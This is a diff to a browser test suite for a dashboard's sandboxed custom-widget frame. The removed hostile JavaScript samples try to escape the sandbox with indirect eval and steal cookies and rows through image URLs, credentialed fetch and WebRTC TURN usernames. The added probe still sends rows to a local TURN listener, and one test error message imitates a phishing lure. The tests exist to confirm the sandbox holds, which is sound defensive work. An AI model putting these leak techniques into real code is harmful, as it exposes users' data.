@@ -7,7 +7,6 @@ from __future__ import annotations
 
 import socket
 import threading
-import time
 from collections.abc import Iterator
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
@@ -57,66 +56,24 @@ function Widget(props: Props) {
 }
 """
 
-# Written by hand, as if the checker had been bypassed: it escapes the shadowed globals through
-# an indirect eval and tries everything a leak needs, writing each outcome into its own DOM.
-HOSTILE_JS = """
+# Written by hand, as if the checker had been bypassed: it looks for every way out a component had
+# when it ran in the frame's window, and writes what it found into its own output.
+PROBE_JS = """
 function Widget(props) {
-  const [report, setReport] = React.useState({});
-  React.useEffect(() => {
-    const g = (0, eval)("this");
-    const note = (key, value) => setReport((old) => Object.assign({}, old, { [key]: value }));
-    const attempt = (key, fn) => { try { note(key, "read:" + String(fn())); } catch (e) { note(key, "blocked:" + e.name); } };
-    g.document.addEventListener("securitypolicyviolation", (e) => note("csp-" + e.effectiveDirective, "blocked"));
-    attempt("cookie", () => g.document.cookie);
-    attempt("parent", () => g.parent.document.title);
-    attempt("storage", () => g.localStorage.length);
-    new g.Image().src = "/static/leak-image.png?" + encodeURIComponent(JSON.stringify(props.rows));
-    g.fetch("/api/dashboards/?leak=fetch", { credentials: "include" })
-      .then((r) => note("fetch", "read:" + r.status), (e) => note("fetch", "blocked:" + e.name));
-  }, []);
-  return React.createElement("ul", null, Object.keys(report).sort().map((key) =>
-    React.createElement("li", { key, "data-testid": "probe-" + key }, report[key])));
-}
-"""
-
-
-# Also hand-written: WebRTC sends STUN/TURN packets that no CSP directive covers. The TURN
-# server is a UDP socket of the test's; the username carries the rows. Every route to an
-# RTCPeerConnection is tried, and what each one gave is written into the component's DOM.
-WEBRTC_JS = """
-function Widget(props) {
-  const [report, setReport] = React.useState({});
-  React.useEffect(() => {
-    const g = (0, eval)("this");
-    const config = { iceServers: [{ urls: "turn:127.0.0.1:TURN_PORT?transport=udp",
-      username: JSON.stringify(props.rows), credential: "x" }] };
-    const note = (key, value) => setReport((old) => Object.assign({}, old, { [key]: value }));
-    const attempt = (key, fn) => { try { note(key, "read:" + String(fn())); } catch (e) { note(key, "blocked:" + e.name); } };
-    const leak = (W) => {
-      const pc = new W.RTCPeerConnection(config);
-      pc.createDataChannel("rows");
-      pc.createOffer().then((offer) => pc.setLocalDescription(offer));
-      return "sent";
-    };
-    attempt("type-eval", () => typeof g.RTCPeerConnection);
-    attempt("eval", () => leak(g));
-    attempt("globalThis", () => leak(globalThis));
-    attempt("webkit", () => new g.webkitRTCPeerConnection(config) && "sent");
-    attempt("media", () => typeof g.navigator.mediaDevices);
-    attempt("iframe", () => {
-      const frame = g.document.createElement("iframe");
-      g.document.body.appendChild(frame);
-      return leak(frame.contentWindow);
-    });
-    attempt("innerHTML", () => {
-      const box = g.document.createElement("div");
-      box.innerHTML = "<iframe></iframe>";
-      g.document.body.appendChild(box);
-      return leak(g[0]);
-    });
-  }, []);
-  return React.createElement("ul", null, Object.keys(report).sort().map((key) =>
-    React.createElement("li", { key, "data-testid": "probe-" + key }, report[key])));
+  const g = (0, eval)("this");
+  const found = {};
+  for (const name of ["window", "self", "document", "parent", "top", "location", "navigator", "fetch",
+      "XMLHttpRequest", "WebSocket", "postMessage", "importScripts", "WebAssembly", "setTimeout",
+      "requestAnimationFrame", "RTCPeerConnection", "Worker", "localStorage"]) {
+    found[name] = typeof g[name];
+  }
+  found.ctor = typeof (function () {}).constructor("return this.document")();
+  let rtc = "none";
+  try { new RTCPeerConnection({ iceServers: [{ urls: "turn:127.0.0.1:TURN_PORT?transport=udp",
+    username: JSON.stringify(props.rows), credential: "x" }] }); rtc = "made"; } catch (e) { rtc = e.name; }
+  found.rtc = rtc;
+  return React.createElement("ul", null, Object.keys(found).sort().map((key) =>
+    React.createElement("li", { key, "data-testid": "probe-" + key }, found[key])));
 }
 """
 
@@ -195,82 +152,43 @@ def test_a_checked_component_renders_its_props_in_the_sandboxed_frame(
     assert 300 <= int(frame_element.get_attribute("height") or 0) <= 340
 
 
-def test_a_hostile_component_cannot_read_cookies_reach_the_page_or_send_anything(
-    browser_page: Page, live_server: Any, board: Dashboard
-) -> None:
-    requests: list[str] = []
-    responses: list[str] = []
-    blocked: dict[str, str] = {}
-    browser_page.on("request", lambda request: requests.append(request.url))
-    browser_page.on("response", lambda response: responses.append(response.url))
-    browser_page.on("requestfailed", lambda request: blocked.update({request.url: request.failure or ""}))
-    add_widget(board, spec=SPEC, result=RESULT, component_js=HOSTILE_JS)
-    open_dashboard(browser_page, live_server.url, board)
-    assert "csrftoken=" in browser_page.evaluate("document.cookie")  # there is a cookie to steal
-
-    frame = browser_page.frame_locator("[data-testid=custom-frame]")
-    expect(frame.get_by_test_id("probe-cookie")).to_have_text("blocked:SecurityError")
-    expect(frame.get_by_test_id("probe-parent")).to_have_text("blocked:SecurityError")
-    expect(frame.get_by_test_id("probe-storage")).to_have_text("blocked:SecurityError")
-    expect(frame.get_by_test_id("probe-fetch")).to_have_text("blocked:TypeError")
-    expect(frame.get_by_test_id("probe-csp-connect-src")).to_have_text("blocked")
-    expect(frame.get_by_test_id("probe-csp-img-src")).to_have_text("blocked")
-    # The frame's own script loads are seen, so the listeners do see the frame's requests.
-    assert any("/static/widgets/sandbox.js" in url for url in responses)
-    # Chromium announces the image request, then blocks it before it is sent; fetch never starts.
-    leaks = [url for url in requests if "leak" in url]
-    assert leaks and all(blocked.get(url) == "csp" for url in leaks), (leaks, blocked)
-    assert not [url for url in responses if "leak" in url]
-    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_count(0)
-
-
-def test_a_component_that_throws_shows_why_in_its_card(
-    browser_page: Page, live_server: Any, board: Dashboard
-) -> None:
-    js = 'function Widget(props) { throw new Error("no rows for " + props.title); }'
-    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
-    open_dashboard(browser_page, live_server.url, board)
-
-    card = custom_card(browser_page)
-    expect(card.get_by_test_id("custom-error")).to_have_text(
-        "The custom component failed: no rows for Claims by region, as bars")
-    expect(card.get_by_test_id("custom-frame")).to_have_count(0)
-
-
-def test_a_component_that_navigates_its_frame_away_is_stopped(
-    browser_page: Page, live_server: Any, board: Dashboard
-) -> None:
-    js = 'function Widget(props) { (0, eval)("this").location.href = "/widgets/sandbox/?moved=1"; return null; }'
-    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
-    open_dashboard(browser_page, live_server.url, board)
-
-    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_text(
-        "The custom component failed: it tried to leave its sandbox and was stopped.")
-
-
-def test_a_component_cannot_send_its_rows_over_webrtc(
+def test_a_component_runs_with_no_window_no_network_and_no_messages(
     browser_page: Page, live_server: Any, board: Dashboard, udp_listener: socket.socket
 ) -> None:
     port = udp_listener.getsockname()[1]
-    add_widget(board, spec=SPEC, result=RESULT, component_js=WEBRTC_JS.replace("TURN_PORT", str(port)))
+    add_widget(board, spec=SPEC, result=RESULT, component_js=PROBE_JS.replace("TURN_PORT", str(port)))
     open_dashboard(browser_page, live_server.url, board)
 
     frame = browser_page.frame_locator("[data-testid=custom-frame]")
-    expect(frame.get_by_test_id("probe-type-eval")).to_have_text("read:undefined")
-    expect(frame.get_by_test_id("probe-eval")).to_have_text("blocked:TypeError")
-    expect(frame.get_by_test_id("probe-globalThis")).to_have_text("blocked:TypeError")
-    expect(frame.get_by_test_id("probe-webkit")).to_have_text("blocked:TypeError")
-    expect(frame.get_by_test_id("probe-media")).to_have_text("read:undefined")
-    # A new frame would be a new window with its own RTCPeerConnection: none can be made.
-    expect(frame.get_by_test_id("probe-iframe")).to_have_text("blocked:TypeError")
-    expect(frame.get_by_test_id("probe-innerHTML")).to_have_text("blocked:TypeError")
+    expect(frame.get_by_test_id("probe-rtc")).to_have_text("ReferenceError")
+    for name in ("window", "self", "document", "parent", "top", "location", "navigator", "fetch", "XMLHttpRequest",
+                 "WebSocket", "postMessage", "importScripts", "WebAssembly", "setTimeout", "requestAnimationFrame",
+                 "RTCPeerConnection", "Worker", "localStorage", "ctor"):
+        expect(frame.get_by_test_id(f"probe-{name}")).to_have_text("undefined")
     with pytest.raises(TimeoutError):
         packet, sender = udp_listener.recvfrom(4096)
         pytest.fail(f"the component sent {len(packet)} bytes over UDP from {sender}")
     expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_count(0)
 
 
-def test_a_component_cannot_navigate_its_frame_to_another_origin(
+def test_a_component_that_throws_shows_its_own_words_apart_with_a_retry(
+    browser_page: Page, live_server: Any, board: Dashboard
+) -> None:
+    js = 'function Widget(props) { throw new Error("Your session has expired, sign in at evil.test " + props.title); }'
+    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
+    open_dashboard(browser_page, live_server.url, board)
+
+    card = custom_card(browser_page)
+    expect(card.get_by_test_id("custom-error-reason")).to_have_text("The custom component stopped with an error.")
+    expect(card.get_by_test_id("custom-error-detail")).to_have_text(
+        "The component's own message (not from Widget Builder): "
+        "Your session has expired, sign in at evil.test Claims by region, as bars")
+    expect(card.get_by_test_id("custom-frame")).to_have_count(0)
+    card.get_by_test_id("custom-retry").click()  # runs it again in a new frame, which fails the same way
+    expect(card.get_by_test_id("custom-error-detail")).to_contain_text("Your session has expired")
+
+
+def test_a_component_that_reaches_for_the_window_stops_with_its_error(
     browser_page: Page, live_server: Any, board: Dashboard, outside_server: tuple[str, list[str]]
 ) -> None:
     url, hits = outside_server
@@ -278,10 +196,7 @@ def test_a_component_cannot_navigate_its_frame_to_another_origin(
     add_widget(board, spec=SPEC, result=RESULT, component_js=js)
     open_dashboard(browser_page, live_server.url, board)
 
-    # The dashboard's frame-src refuses the navigation; the frame's second load reports it.
-    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_text(
-        "The custom component failed: it tried to leave its sandbox and was stopped.")
-    time.sleep(1)  # a request let through would have arrived by now
+    expect(custom_card(browser_page).get_by_test_id("custom-error-detail")).to_contain_text("undefined")
     assert hits == []
 
 
@@ -296,6 +211,49 @@ def test_a_ready_custom_widget_whose_rows_do_not_fit_says_why_without_a_retry_bu
     card = custom_card(browser_page)
     expect(card.get_by_test_id("widget-failure")).to_contain_text("The query returned 3 column(s)")
     expect(card.get_by_test_id("widget-retry")).to_have_count(0)
+
+
+OFFLINE_CASES = [
+    # (spec changes, result, text the component shows)
+    ({}, {"columns": ["region", "claim_count"], "rows": [["Midwest", 4210], ["South", 5342]], "truncated": False},
+     "South"),
+    ({"dimensions": [], "labels": {}, "grain": "month", "visual": "columns"},
+     {"columns": ["period", "claim_count"], "rows": [["2026-01-01", 10], ["2026-02-01", 12]], "truncated": False},
+     "latest month"),
+    ({"dimensions": [], "labels": {}, "grain": "month", "visual": "sparkline"},
+     {"columns": ["period", "claim_count"], "rows": [["2026-01-01", 10], ["2026-02-01", 12]], "truncated": False},
+     "latest month"),
+    ({"dimensions": [], "labels": {}, "visual": "big number"},
+     {"columns": ["claim_count"], "rows": [[9552]], "truncated": False}, "9552"),
+    ({"dimensions": [], "labels": {}, "visual": "gauge", "metric": {"key": "rate", "name": "Rate", "unit": "percent"}},
+     {"columns": ["rate"], "rows": [[0.42]], "truncated": False}, "42.0%"),
+]
+
+
+def test_the_offline_components_render_in_the_vm(browser_page: Page, live_server: Any, board: Dashboard) -> None:
+    from backend.llm.types import OfflineQuery
+    from widgets.services import custom_offline
+    from widgets.services.custom import props_interface
+
+    reason = tsx_checker_available()
+    if reason:
+        service_missing(f"TSX checker unavailable: {reason}")
+    for n, (changes, result, _) in enumerate(OFFLINE_CASES):
+        spec = {**SPEC, "time_window": {"kind": "all"}, **changes, "title": f"Offline {n}"}
+        tsx = custom_offline.answer(OfflineQuery(context={}, prompt={"spec": spec, "request": ""}, corrections=[]))["tsx"]
+        add_widget(board, spec=spec, result=result, component_js=tsx_compile(tsx=tsx, props_ts=props_interface(spec)).js)
+    open_dashboard(browser_page, live_server.url, board)
+
+    frames = browser_page.locator("[data-testid=custom-frame]")
+    expect(frames).to_have_count(len(OFFLINE_CASES))
+    for n, (_, _, text) in enumerate(OFFLINE_CASES):
+        frame = browser_page.frame_locator(f"[data-testid=custom-frame][title='Offline {n}']")
+        expect(frame.locator("#root")).to_contain_text(f"Offline {n}")
+        expect(frame.locator("#root")).to_contain_text(text)
+    expect(browser_page.get_by_test_id("custom-error")).to_have_count(0)
+    # The charts' SVG came through the allowlist.
+    expect(browser_page.frame_locator("[title='Offline 1']").locator("svg rect")).to_have_count(2)
+    expect(browser_page.frame_locator("[title='Offline 2']").locator("svg polyline")).to_have_count(1)
 
 
 def tsx_free_component() -> str:
